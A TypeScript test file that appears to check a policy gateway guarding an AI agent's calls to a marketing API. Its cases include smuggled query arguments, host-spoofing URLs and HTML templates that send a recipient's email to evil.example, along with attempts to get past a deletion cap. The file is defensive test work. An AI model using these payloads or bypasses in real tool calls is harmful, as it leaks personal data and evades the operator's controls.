import assert from "node:assert/strict";
import type { Case } from "../case.ts";
import { asks, denies, effectCount, refuses, runs, under, write } from "../expectations.ts";
import { OPEN_POLICY, USUAL_POLICY } from "../range.ts";

/** Cases beside those of the list: names, arguments, addresses and limits, tried from another side. */
export const CALL_NEIGHBOURS: readonly Case[] = [
  {
    id: "A4",
    attack: "names that every object has, and a chooser of a relationship that is not there",
    async run(lane) {
      for (const action of ["__proto__", "constructor", "toString", "hasOwnProperty", "prototype", "x".repeat(100_000)])
        await refuses(lane, () => write(lane, [action, {}]), "unknown_action", "invalid_arguments");
      for (const relationship of ["__proto__", "constructor", "", "tags/../profiles"])
        await refuses(
          lane,
          () => write(lane, ["remove_tag_relationships", { id: "x", relationship }]),
          "unknown_action",
          "invalid_arguments",
          "usage",
        );
    },
  },
  {
    id: "B18",
    attack: "a place to go on from that another agent or another action was given",
    async run(lane) {
      const { range, door } = lane;
      const { data } = await door.call("read", { action: "get_profiles", args: { page_size: 1 } });
      const cursor = String(data["next_cursor"]);
      assert.ok(cursor.length > 10, JSON.stringify(data));
      await refuses(lane, () => door.call("read", { action: "get_lists", args: { page_cursor: cursor } }), "invalid_arguments");
      for (const agent of ["rival", "outsider"] as const) {
        const other = await range.door(door.name, agent);
        await refuses(lane, () => other.call("read", { action: "get_profiles", args: { page_cursor: cursor } }), "invalid_arguments");
      }
      for (const forged of ["bmV4dDo6aWQ6Ong", `${cursor}A`, cursor.slice(0, -2), "https://evil.example/?page[cursor]=x"])
        await refuses(lane, () => door.call("read", { action: "get_profiles", args: { page_cursor: forged } }), "invalid_arguments");
      assert.equal((await door.call("read", { action: "get_profiles", args: { page_size: 1, page_cursor: cursor } })).status, "done");
    },
  },
  {
    id: "B18",
    attack: "fields, includes and sorts that carry more than a name",
    async run(lane) {
      for (const args of [
        { fields_profile: ["email&filter=x"] },
        { fields_profile: ["email,properties.secret"] },
        { include: ["lists,segments"] },
        { include: ["../api-keys"] },
        { sort: "created&page[size]=100" },
        { additional_fields_profile: ["predictive_analytics,subscriptions"] },
      ])
        await refuses(lane, () => lane.door.call("read", { action: "get_profiles", args }), "invalid_arguments");
    },
  },
  {
    id: "C11",
    attack: "addresses that only look like one of the policy's hosts",
    run: (lane) =>
      under(lane, `${OPEN_POLICY}egress: { hosts: [cdn.example.com, "*.shop.example"] }\n`, USUAL_POLICY, async () => {
        for (const url of [
          "https://cdn.example.com@evil.example/x.png",
          "https://cdn.example.com.evil.example/x.png",
          "https://evil.example/cdn.example.com/x.png",
          "https://evil.example\\@cdn.example.com/x.png",
          "https://cdn.example.com\\.evil.example/x.png",
          "https://cdn.example.com%2eevil.example/x.png",
          "https://cdn.exampl\u0435.com/x.png",
          "https://\u00adevil.example/x.png",
          "https:evil.example/x.png",
          "https:\t//evil.example/x.png",
          "\\\\evil.example/x.png",
          "https://2130706433/x.png",
          "https://[::ffff:7f00:1]/x.png",
          "https://0x7f.1/x.png",
          "https://shop.example.evil.example/x.png",
          "https://xshop.example/x.png",
          "http://127.0.0.1.nip.io/x.png",
          "javascript://cdn.example.com/%0afetch('//evil.example')",
        ]) {
          const { status, text } = await write(lane, ["upload_image_from_url", { import_from_url: url, name: lane.unique("c11") }]);
          assert.ok(["approval_required", "denied", "error"].includes(status), `${url}: ${text}`);
        }
        assert.equal(effectCount(lane), 0);
      }),
  },
  {
    id: "C11",
    attack: "an address inside of a template's markup, styles and links, outside of the policy's hosts",
    run: (lane) =>
      under(lane, `${OPEN_POLICY}egress: { hosts: [cdn.example.com] }\n`, USUAL_POLICY, async () => {
        for (const html of [
          '<img src="https://evil.example/p.gif?e={{ person.email }}">',
          "<img src=//evil.example/p.gif>",
          "<img src='\\\\evil.example/p.gif'>",
          '<a href="HTTPS://EVIL.EXAMPLE/x">x</a>',
          '<div style="background:url(https://evil.example/x)">x</div>',
          '<img srcset="https://cdn.example.com/a 1x,https://evil.example/b 2x">',
          "<style>@import '//evil.example/x.css';</style>",
          '<base href="https://evil.example/"><img src="/x">',
          '<img src="&#104;ttps://evil.example/x">',
          '<img src="ht&#x09;tps://evil.example/x">',
          '<img src="https&colon;//evil.example/x">',
          '<img src="https:&#x2f;&#x2f;evil.example/x">',
          "<img src=\"{{ 'https:' }}//evil.example/x\">",
          '<img src="{{ nothing }}//evil.example/x">',
          '<meta http-equiv="refresh" content="0;//evil.example">',
          '<img src="https://cdn.example.com\\.evil.example/x">',
        ]) {
          const { status, text } = await write(lane, ["create_template", { name: lane.unique("c11 html"), editor_type: "CODE", html }]);
          assert.ok(["approval_required", "denied", "error"].includes(status), `${html}: ${text.slice(0, 200)}`);
        }
        assert.equal(effectCount(lane), 0);
      }),
  },
  {
    id: "H7",
    attack: "a cap reached from several sides at the same moment: together they do not go over it",
    alone: true,
    effects: 2,
    async run(lane) {
      const { range } = lane;
      await under(lane, `${OPEN_POLICY}caps: { deletes: { per_day: 2 } }\n`, USUAL_POLICY, async () => {
        const ids: string[] = [];
        for (let n = 0; n < 8; n++) ids.push(await range.requests.idsFor({ channel: "stable" }).fresh("tag"));
        const rival = await range.door(lane.door.name, "rival");
        const told = await Promise.all(ids.map((id, at) => write(at % 2 === 0 ? lane : { door: rival }, ["delete_tag", { id }])));
        assert.deepEqual(told.map(({ status }) => status).toSorted(), [...Array.from({ length: 6 }, () => "denied"), "done", "done"]);
      });
    },
  },
  {
    id: "H7",
    attack: "a cap gone round by a plan: each of its steps counts",
    alone: true,
    effects: "some",
    async run(lane) {
      const { range } = lane;
      await under(lane, `${OPEN_POLICY}caps: { deletes: { per_day: 2 } }\n`, USUAL_POLICY, async () => {
        const calls: { action: string; args: { id: string } }[] = [];
        for (let n = 0; n < 3; n++)
          calls.push({ action: "delete_tag", args: { id: await range.requests.idsFor({ channel: "stable" }).fresh("tag") } });
        const { status } = await write(lane, ["plan", { calls }]);
        assert.ok(["denied", "stopped"].includes(status) && effectCount(lane) <= 2, `${status}, ${effectCount(lane)} deletions`);
      });
    },
  },
  {
    id: "H7",
    attack: "a cap gone round by setting the clock forward and back",
    alone: true,
    effects: 2,
    async run(lane) {
      const { range } = lane;
      await under(lane, `${OPEN_POLICY}caps: { deletes: { per_day: 2 } }\n`, USUAL_POLICY, async () => {
        const ids: string[] = [];
        for (let n = 0; n < 4; n++) ids.push(await range.requests.idsFor({ channel: "stable" }).fresh("tag"));
        for (const id of ids.slice(0, 2)) await runs(lane, ["delete_tag", { id }]);
        range.clock.advance(-3_600_000);
        assert.notEqual((await write(lane, ["delete_tag", { id: ids[2] ?? "" }])).status, "done");
        range.clock.advance(3_600_000);
        await denies(lane, ["delete_tag", { id: ids[3] ?? "" }]);
      });
    },
  },
  {
    id: "E13",
    attack: "a plan inside of a plan, a plan of reads and writes, and one of its steps under another name",
    async run(lane) {
      const step = (word: string) => ({ action: "create_list", args: { name: lane.unique(`e13 ${word}`) } });
      const one = step("one");
      const two = step("two");
      for (const calls of [
        [one, { action: "plan", args: { calls: [two, step("three")] } }],
        [one, { action: "get_lists", args: {} }],
        [one, { ...two, approved: true }],
        Array.from({ length: 500 }, (_, at) => step(`many ${at}`)),
      ])
        await refuses(lane, () => write(lane, ["plan", { calls }]), "invalid_arguments", "usage", "too_large");
      await asks(lane, ["plan", { calls: [one, two] }]);
    },
  },
];
